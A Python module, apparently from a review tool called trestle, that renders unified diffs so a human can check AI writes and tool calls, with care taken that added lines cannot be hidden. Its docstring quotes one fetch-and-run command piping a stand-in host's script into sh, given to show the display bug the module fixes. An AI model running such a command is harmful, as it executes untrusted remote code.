"""The unified diff a card shows: what a write or a tool call would change, and what a
human's edit changes. One function, for the CLI's cards, the dashboard's and the MCP
tools', so that each reads the same lines the same way.

A file's lines end at a newline only, as git reads them: ``str.splitlines`` also ends a
line at a form feed, a record separator or U+2028, so a removed line holding one ran
into the added line after it. And a line with no newline at its end (a file's last) is
followed by ``\\ No newline at end of file``, as git writes: without it the line after
it in the diff was printed on the same line, and ``-echo done+curl x.example/i | sh``
read as one line removed where the write added a command.
"""

from __future__ import annotations

import difflib
from collections import Counter
from collections.abc import Iterator

from trestle.presentation.wording import one_line

NO_NEWLINE = "\\ No newline at end of file\n"
CONTEXT = 3  # lines shown around each change
WORK_MOST = 20_000_000  # pairs of equal lines compared before a change is shown whole


def lines_of(text: str) -> list[str]:
    """``text``'s lines, each with its newline; the last without one if it has none."""
    parts = text.split("\n")
    lines = [part + "\n" for part in parts[:-1]]
    if parts[-1]:
        lines.append(parts[-1])
    return lines


def unified(before: str, after: str, *, fromfile: str, tofile: str) -> str:
    """The unified diff from ``before`` to ``after``, every line of it a line of its own
    (see the module's docstring); empty when they are the same. The file names are shown
    on one line (:func:`~trestle.presentation.wording.one_line`): a step names its files.

    Where difflib would compare more than :data:`WORK_MOST` pairs of lines (it compared
    a 4 MiB file of a million lines, each repeated thousands of times, for hours, and
    ``trestle inbox`` with it), the lines both begin and end with are set aside first,
    so a small edit to a long file costs its changed lines, not the file; and where what
    is left would still cost more, it is shown as removed whole and added whole."""
    a, b = lines_of(before), lines_of(after)
    if a == b:
        return ""
    out = [f"--- {one_line(fromfile)}\n", f"+++ {one_line(tofile)}\n"]
    for group in _grouped(_opcodes(a, b)):
        first, last = group[0], group[-1]
        out.append(f"@@ -{_range(first[1], last[2])} +{_range(first[3], last[4])} @@\n")
        for tag, i1, i2, j1, j2 in group:
            if tag == "equal":
                out += _marked(" ", a[i1:i2])
                continue
            out += _marked("-", a[i1:i2])
            out += _marked("+", b[j1:j2])
    return "".join(out)


Opcode = tuple[str, int, int, int, int]  # as difflib's: tag, a's lines i1:i2, b's j1:j2


def _opcodes(a: list[str], b: list[str]) -> list[Opcode]:
    """How ``b`` differs from ``a``, as difflib's opcodes, within :data:`WORK_MOST`."""
    if _work(a, b) <= WORK_MOST:
        return list(difflib.SequenceMatcher(None, a, b).get_opcodes())
    head = 0
    while head < min(len(a), len(b)) and a[head] == b[head]:
        head += 1
    tail = 0
    while tail < min(len(a), len(b)) - head and a[-1 - tail] == b[-1 - tail]:
        tail += 1
    a_end, b_end = len(a) - tail, len(b) - tail
    middle: list[Opcode] = [("replace", head, a_end, head, b_end)]
    if _work(a[head:a_end], b[head:b_end]) <= WORK_MOST:
        matched = difflib.SequenceMatcher(None, a[head:a_end], b[head:b_end])
        middle = [
            (tag, i1 + head, i2 + head, j1 + head, j2 + head)
            for tag, i1, i2, j1, j2 in matched.get_opcodes()
        ]
    codes: list[Opcode] = [("equal", 0, head, 0, head)] if head else []
    for code in [*middle, ("equal", a_end, len(a), b_end, len(b))]:
        if code[1] == code[2] and code[3] == code[4]:
            continue  # nothing in it
        if codes and codes[-1][0] == code[0] == "equal":  # one run of equal lines
            codes[-1] = ("equal", codes[-1][1], code[2], codes[-1][3], code[4])
        else:
            codes.append(code)
    return codes


def _grouped(codes: list[Opcode]) -> Iterator[list[Opcode]]:
    """The opcodes in hunks, each change with up to :data:`CONTEXT` equal lines around
    it, as difflib groups them (a run of equal lines longer than twice the context
    ends a hunk)."""
    if codes[0][0] == "equal":
        tag, i1, i2, j1, j2 = codes[0]
        codes[0] = (tag, max(i1, i2 - CONTEXT), i2, max(j1, j2 - CONTEXT), j2)
    if codes[-1][0] == "equal":
        tag, i1, i2, j1, j2 = codes[-1]
        codes[-1] = (tag, i1, min(i2, i1 + CONTEXT), j1, min(j2, j1 + CONTEXT))
    group: list[Opcode] = []
    for tag, i1, i2, j1, j2 in codes:
        if tag == "equal" and i2 - i1 > 2 * CONTEXT:
            group.append((tag, i1, i1 + CONTEXT, j1, j1 + CONTEXT))
            yield group
            group = []
            i1, j1 = i2 - CONTEXT, j2 - CONTEXT
        group.append((tag, i1, i2, j1, j2))
    if group and not (len(group) == 1 and group[0][0] == "equal"):
        yield group


def _marked(mark: str, lines: list[str]) -> list[str]:
    out = []
    for line in lines:
        out.append(mark + line)
        if not line.endswith("\n"):
            out += ["\n", NO_NEWLINE]
    return out


def _range(start: int, stop: int) -> str:
    """A hunk's side as unified diffs write it (``3,4``; ``3`` for one line; the line
    before for none)."""
    length = stop - start
    if length == 1:
        return str(start + 1)
    return f"{start + 1 if length else start},{length}"


def _work(a: list[str], b: list[str]) -> int:
    """About how many pairs of equal lines difflib visits: for each line of ``a``, the
    lines of ``b`` equal to it, less those it sets aside as too common (its autojunk:
    in 200 lines or more, a line found in more than 1% of them)."""
    counts = Counter(b)
    common = len(b) // 100 + 1 if len(b) >= 200 else len(b)
    return sum(c for line in a if (c := counts.get(line, 0)) <= common)
